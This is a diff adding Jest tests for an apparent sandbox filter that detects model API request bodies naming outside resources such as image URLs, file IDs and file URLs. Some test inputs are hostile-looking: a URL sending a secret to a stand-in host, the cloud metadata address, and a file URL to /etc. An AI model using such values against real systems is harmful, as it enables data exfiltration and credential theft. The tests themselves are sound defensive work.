@@ -1,5 +1,5 @@
 import { describe, expect, it } from '@jest/globals';
-import { allowed, DIALECTS, type Measured } from './dialects.ts';
+import { allowed, DIALECTS, type Measured, named } from './dialects.ts';
 
 const dialect = (path: string) => {
   const found = DIALECTS.find((one) => one.path === path);
@@ -52,6 +52,47 @@ describe('what a sandbox may say to a model', () => {
     expect(allowed(chat, { stream: true })).toMatchObject({ stream_options: { include_usage: true } });
     expect(allowed(chat, { stream: false })).not.toHaveProperty('stream_options');
     expect(allowed(responses, { store: true })).toMatchObject({ store: false });
+  });
+});
+
+describe('what lies elsewhere', () => {
+  const image = (url: string) => ({
+    messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url } }] }],
+  });
+  it.each([
+    ['url', image('https://evil.example/?d=secret')],
+    ['url', image('http://169.254.169.254/latest')],
+    ['url', { messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: 'https://e' } }] }] }],
+    [
+      'file_id',
+      { messages: [{ role: 'user', content: [{ type: 'document', source: { type: 'file', file_id: 'f' } }] }] },
+    ],
+    ['image_url', { input: [{ role: 'user', content: [{ type: 'input_image', image_url: 'https://e' }] }] }],
+    ['file_url', { input: [{ role: 'user', content: [{ type: 'input_file', file_url: 'file:///etc' }] }] }],
+    ['item_reference', { input: [{ type: 'item_reference', id: 'msg_1' }] }],
+  ])('cannot be named by %s', (field, body) => {
+    expect(named(body)).toBe(field);
+  });
+
+  it('may be spoken of, and what is inline is passed on', () => {
+    expect(named(image('data:image/png;base64,AAAA'))).toBeNull();
+    const called = {
+      type: 'tool_use',
+      id: 't',
+      name: 'web_fetch',
+      input: { url: 'https://e', source: { url: 'https://e' } },
+    };
+    expect(
+      named({
+        messages: [
+          { role: 'assistant', content: [called] },
+          { role: 'user', content: 'see https://e' },
+        ],
+      }),
+    ).toBeNull();
+    expect(
+      named({ tools: [{ name: 'f', input_schema: { properties: { image_url: { type: 'string' } } } }] }),
+    ).toBeNull();
   });
 });
 
